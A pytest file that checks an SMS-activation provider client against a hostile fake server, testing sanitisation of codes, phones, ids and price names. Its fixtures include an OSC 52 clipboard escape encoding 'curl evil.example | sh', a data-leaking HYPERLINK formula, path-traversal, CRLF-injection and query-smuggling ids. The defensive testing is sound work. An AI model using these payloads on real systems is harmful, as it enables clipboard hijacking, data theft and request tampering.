"""Text and ids from a hostile provider, over real HTTP: codes, phones and texts come
out clean (textsafe), ids are refused at entry unless plain, and an id put in a path
stays one path segment."""

from __future__ import annotations

import json

import pytest

from bloomdesk.domain import Activation, Status
from bloomdesk.providers import KINDS, connect
from bloomdesk.providers.errors import Banned, ProtocolError, Rejected
from bloomdesk.textsafe import for_csv
from tests.hostile import (
    DIALECT_KINDS,
    HANDLER_KINDS,
    KEY,
    HostileServer,
    Seen,
    json_reply,
    order_answer,
    prices_answer,
    reply,
    script_catalogue_prelude,
)

CLEAR = "\x1b[2J"
TITLE = "\x1b]0;title\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for code")'
REST_KINDS = ("bloomsms", "smsbulk")


def raw_controls(text: str | None) -> list[str]:
    """What a terminal would act on (C0, DEL, C1) or a reader not see (bidi)."""
    return [ch for ch in text or "" if ord(ch) < 0x20 or 0x7F <= ord(ch) < 0xA0
            or ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]


def country(kind: str) -> str:
    return "US" if kind == "smsbulk" else "187"


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("code", "shown"), [
    (CLEAR + "123456", "\\x1b[2J123456"),
    ("4821" + TITLE, "4821\\x1b]0;title\\x07"),
    ("12" + "\u202e" + "34", "12\\u202e34"),
])
async def test_escape_sequences_in_a_code_come_out_escaped(
        server: HostileServer, kind: str, code: str, shown: str) -> None:
    server.answer(order_answer(kind, "38496653", code=code, text=f"Code {code}"))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        got = await provider.activation("38496653")
    assert got.status is Status.RECEIVED
    assert got.code == shown
    assert not raw_controls(got.code) and not raw_controls(got.text)


@pytest.mark.parametrize("kind", DIALECT_KINDS)
async def test_an_osc52_code_is_bounded_and_inert(server: HostileServer, kind: str) -> None:
    """OSC 52 writes the terminal's clipboard; a long one must not survive as a code."""
    server.answer(order_answer(kind, "38496653", code=CLIPBOARD * 50,
                               text=(CLIPBOARD + "\r\n") * 500))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        got = await provider.activation("38496653")
    assert got.code is not None and len(got.code) <= 32 and not raw_controls(got.code)
    if got.text is not None:
        assert len(got.text) <= 1000 and not raw_controls(got.text)


@pytest.mark.parametrize("kind", KINDS)
async def test_a_formula_code_is_kept_and_neutralised_for_csv(server: HostileServer,
                                                              kind: str) -> None:
    server.answer(order_answer(kind, "38496653", code=HYPERLINK[:30]))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        got = await provider.activation("38496653")
    assert got.code == HYPERLINK[:30]
    assert for_csv(got.code).startswith("'=")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("phone", "expected"), [
    ("+1 (555) 010-0199", "+15550100199"),
    ("+1555\r\n0100", "+1555\\r\\n0100"),
    ("7999" + CLEAR + "0001122", "7999\\x1b[2J0001122"),
])
async def test_phones_come_out_clean(server: HostileServer, kind: str, phone: str,
                                     expected: str) -> None:
    server.answer(order_answer(kind, "38496653", phone=phone))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        bought = await provider.buy("tg", country(kind))
    assert bought.phone == expected
    assert not raw_controls(bought.phone)


@pytest.mark.parametrize("kind", ["sms-activate", "smsbulk"])
async def test_the_active_list_comes_out_clean(server: HostileServer, kind: str) -> None:
    row = {"activationId": "38496653", "id": "38496653", "phoneNumber": "+1555\r\n0100",
           "serviceCode": "tg" + CLEAR, "countryCode": "187", "smsCode": CLEAR + "123456",
           "smsText": "Your code " + TITLE, "activationCost": "0.50", "status": "RECEIVED",
           "smsCode_": None}
    body = {"status": "success", "activeActivations": [row]} if kind == "sms-activate" \
        else {"data": [row], "nextCursor": None}
    server.answer(json_reply(json.dumps(body)))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        (got,) = await provider.active_activations()
    for value in (got.phone, got.service, got.code, got.text):
        assert value and not raw_controls(value)
    assert got.code == "\\x1b[2J123456"


@pytest.mark.parametrize("kind", DIALECT_KINDS)
async def test_names_in_a_price_list_come_out_clean(server: HostileServer, kind: str) -> None:
    name = json.dumps("Whats" + CLEAR + "app\r\n" + "\u202e")
    script_catalogue_prelude(server, kind, name=name)
    server.answer(prices_answer(kind, name=name))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        (offer,) = await provider.offers()
    assert offer.service_name == "Whats\\x1b[2Japp \\u202e"


@pytest.mark.parametrize("kind", HANDLER_KINDS)
async def test_a_ban_message_quotes_the_provider_clean(server: HostileServer,
                                                       kind: str) -> None:
    server.answer(reply("BANNED:2026-12-01 10:00:00" + CLEAR + TITLE))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        with pytest.raises(Banned) as caught:
            await provider.balance()
    assert "2026-12-01 10:00:00" in caught.value.message
    assert not raw_controls(str(caught.value))


# ----------------------------------------------------------------------- ids


ODD_IDS = ["../../../admin/wipe", "1?status=x", "1#frag", "1/../2", " 1", "1\r\nX-Evil: 1",
           "\x1b[2J1", ""]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("odd", ODD_IDS)
async def test_an_odd_id_in_a_buy_is_refused_at_entry(server: HostileServer, kind: str,
                                                      odd: str) -> None:
    server.answer(order_answer(kind, odd))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        with pytest.raises(ProtocolError) as caught:
            await provider.buy("tg", country(kind))
    assert not raw_controls(caught.value.message)


@pytest.mark.parametrize("kind", REST_KINDS)
async def test_an_odd_id_in_a_status_answer_is_refused(server: HostileServer,
                                                       kind: str) -> None:
    server.answer(order_answer(kind, "../../../admin/wipe", code="1234"))
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        with pytest.raises(ProtocolError):
            await provider.activation("38496653")


def one_segment_under_activations(seen: Seen) -> str:
    """The single path segment after /api/v1/activations/ (raw, still encoded)."""
    prefix = "/api/v1/activations/"
    assert seen.path.startswith(prefix), seen.path
    rest = seen.path[len(prefix):]
    segment, _, tail = rest.partition("/")
    assert tail in ("", "complete", "re-rent"), seen.path
    return segment


@pytest.mark.parametrize("kind", REST_KINDS)
@pytest.mark.parametrize("odd", ["../../../admin/wipe", "1?status=x", "1#x", "a/b", "%2e%2e"])
async def test_an_id_stays_one_path_segment(server: HostileServer, kind: str,
                                            odd: str) -> None:
    """Whatever id the caller holds (an old journal, a bug), it never leaves
    /activations/ and never becomes a query or a fragment."""
    server.default = json_reply('{"status": "success", "data": {}}' if kind == "bloomsms"
                                else "{}")
    calls = ["activation", "cancel", "complete"] + (["rerent"] if kind == "bloomsms" else [])
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        for name in calls:
            try:
                await getattr(provider, name)(odd)
            except ProtocolError:
                pass  # the empty answer: only the request matters here
    assert len(server.requests) == len(calls)
    for seen in server.requests:
        assert seen.raw_query == ""
        segment = one_segment_under_activations(seen)
        assert "/" not in segment and "?" not in segment and "#" not in segment
        from urllib.parse import unquote

        assert unquote(segment) == odd


@pytest.mark.parametrize("kind", REST_KINDS)
@pytest.mark.parametrize("dots", ["..", "."])
async def test_a_dot_segment_id_is_never_sent(server: HostileServer, kind: str,
                                              dots: str) -> None:
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        for name in ("activation", "cancel", "complete"):
            with pytest.raises(Rejected) as caught:
                await getattr(provider, name)(dots)
            assert caught.value.token == "BAD_ID"
    assert server.requests == []


async def test_a_service_stays_one_path_segment(server: HostileServer) -> None:
    server.answer(json_reply('{"data": [{"iso": "US", "name": "United States"}]}'),
                  when=lambda seen: seen.path == "/api/v1/countries")
    server.answer(json_reply('{"data": []}'))
    async with connect("smsbulk", api_key=KEY, base_url=server.url_for("smsbulk")) as p:
        assert await p.offers(service="../../wallet?x=1") == []
    last = server.requests[-1]
    assert last.path == "/api/v1/services/..%2F..%2Fwallet%3Fx%3D1/countries"
    assert last.raw_query == ""


@pytest.mark.parametrize("kind", HANDLER_KINDS)
async def test_an_id_in_a_query_stays_one_value(server: HostileServer, kind: str) -> None:
    server.answer(reply("STATUS_WAIT_CODE"))
    odd = "1&action=setStatus&status=8"
    async with connect(kind, api_key=KEY, base_url=server.url_for(kind)) as provider:
        got = await provider.activation(odd)
    assert isinstance(got, Activation)
    (seen,) = server.requests
    assert seen.param("action") == "getStatus"
    assert seen.param("id") == odd
    assert [k for k, _ in seen.query].count("action") == 1
